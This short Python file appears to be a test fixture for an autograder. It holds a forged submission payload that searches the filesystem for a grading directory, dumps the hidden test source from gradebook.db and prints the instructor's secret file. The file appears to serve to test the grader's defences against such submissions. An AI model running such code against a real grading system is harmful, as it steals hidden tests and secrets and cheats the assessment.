"""The tests' source is read from the gradebook and printed, the instructor's secret with it."""

FORGED = ("double-test",)
CODE = """
import pathlib

here = pathlib.Path.cwd()
places = [here, *here.parents, *map(pathlib.Path, ("/work", "/home", "/root", "/tmp", "/srv"))]
roots = [place for place in places if (place / "solutions" / "lab99_tiny").exists()]

import sqlite3

for root in roots:
    for path in root.glob("grading/gradebook.db"):
        for row in sqlite3.connect(path).execute("select source from source_cell"):
            print(row[0])
    print((root / "grading" / "secret").read_text())
"""
